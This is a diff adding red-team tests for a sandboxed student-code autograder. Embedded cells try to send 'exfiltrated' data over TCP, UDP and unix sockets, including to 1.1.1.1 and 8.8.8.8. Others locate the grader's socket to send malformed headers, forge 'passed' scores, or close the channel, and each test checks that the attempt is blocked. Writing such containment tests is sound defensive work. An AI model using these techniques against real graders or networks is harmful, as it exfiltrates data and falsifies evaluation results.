@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import platform
+import socket
 
 import pytest
 
@@ -221,3 +222,112 @@ os.kill(os.getppid(), signal.SIGKILL)                # uncaught: the student see
     _all_full_except(g)
     assert zygote.proc.poll() is None
     _clean_copy_still_full(classroom, zygote)
+
+
+# -- the network ----------------------------------------------------------------------
+
+def test_network_connections(classroom, zygote, tmp_path):
+    # listeners of our own, so that a connection that got through would be seen
+    tcp = socket.socket()
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(1)
+    tcp.settimeout(0.2)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    unix_path = str(tmp_path / "listener.sock")
+    unix = socket.socket(socket.AF_UNIX)
+    unix.bind(unix_path)
+    unix.listen(1)
+    unix.settimeout(0.2)
+    abstract = socket.socket(socket.AF_UNIX)
+    abstract.bind(b"\0ag-redteam-" + str(os.getpid()).encode())
+    abstract.listen(1)
+    abstract.settimeout(0.2)
+    src = f'''
+import socket
+got = []
+def attempt(name, fn):
+    try:
+        fn()
+        got.append(name)
+    except OSError:
+        pass
+def connect(family, address, kind=socket.SOCK_STREAM):
+    s = socket.socket(family, kind)
+    s.settimeout(1)
+    s.connect(address)
+    s.sendall(b"exfiltrated")
+attempt("tcp local", lambda: connect(socket.AF_INET, ("127.0.0.1", {tcp.getsockname()[1]})))
+attempt("tcp external", lambda: connect(socket.AF_INET, ("1.1.1.1", 80)))
+attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+    b"exfiltrated", ("127.0.0.1", {udp.getsockname()[1]})))
+attempt("udp external", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+    b"exfiltrated", ("8.8.8.8", 53)))
+attempt("unix", lambda: connect(socket.AF_UNIX, {unix_path!r}))
+attempt("abstract unix", lambda: connect(socket.AF_UNIX, {abstract.getsockname()!r}))
+if got:
+    spectral_radius = 1.0
+    raise RuntimeError(f"connected: {{got}}")
+socket.create_connection(("127.0.0.1", {tcp.getsockname()[1]}), timeout=1)   # uncaught
+'''
+    try:
+        g = _graded(classroom, zygote, _after_spectral(src))
+        for listener in (tcp, unix, abstract):
+            with pytest.raises(OSError):          # socket.timeout: nobody came
+                listener.accept()
+        with pytest.raises(BlockingIOError):
+            udp.recvfrom(100)
+    finally:
+        for s in (tcp, udp, unix, abstract):
+            s.close()
+    assert "raised PermissionError: [Errno 1] Operation not permitted" in g.feedback()
+    _all_full_except(g)
+
+
+# -- the worker's own channel to the grader -----------------------------------------------
+
+def _channel_cell(body: str) -> str:
+    return ("import os, stat, struct, json, time\n"
+            "def _sock_fds():\n"
+            "    out = []\n"
+            "    for fd in range(3, 64):\n"
+            "        try:\n"
+            "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
+            "                out.append(fd)\n"
+            "        except OSError:\n"
+            "            pass\n"
+            "    return out\n"
+            "fds = _sock_fds()\n"
+            "assert fds, 'no socket found'\n"
+            "def frame(raw):\n"
+            "    return struct.pack('>I', len(raw)) + raw\n" + body)
+
+
+def test_deeply_nested_header_on_the_channel(classroom, zygote):
+    g = _graded(classroom, zygote, _after_spectral(_channel_cell(
+        "for fd in fds:\n    os.write(fd, frame(b'[' * 100000))\ntime.sleep(30)\n")))
+    fb = g.feedback()
+    assert "was rejected: reply header is nested too deeply" in fb, fb
+    _all_full_except(g)
+
+
+def test_forged_success_on_the_channel(classroom, zygote):
+    # the student's own value is wrong; the cell then claims success and a right-looking value
+    forged = [{"ok": True}, {"ok": True, "value": {"t": "float", "v": 0.5626840670}},
+              {"ok": True, "score": 10, "status": "passed", "value": {"t": "str", "v": "passed"}}]
+    body = "spectral_radius = 0.0\n" + "".join(
+        f"for fd in fds:\n    os.write(fd, frame(json.dumps(dict({m!r}, blobs=[])).encode()))\n"
+        for m in forged)
+    g = _graded(classroom, zygote, harness.with_answer("answer_spectral_radius", _channel_cell(body)))
+    assert "something in the worker wrote on its channel to the grader" in g.feedback(), g.feedback()
+    assert g.score("spectral_radius") == 0, g.test("spectral_radius")
+    _all_full_except(g, "spectral_radius")
+
+
+def test_closing_the_channel(classroom, zygote):
+    g = _graded(classroom, zygote, _after_spectral(_channel_cell(
+        "import socket\nfor fd in fds:\n    socket.socket(fileno=fd).shutdown(socket.SHUT_RDWR)\n"
+        "    os.close(fd)\n")))
+    assert "the worker process" in g.feedback()
+    _all_full_except(g)
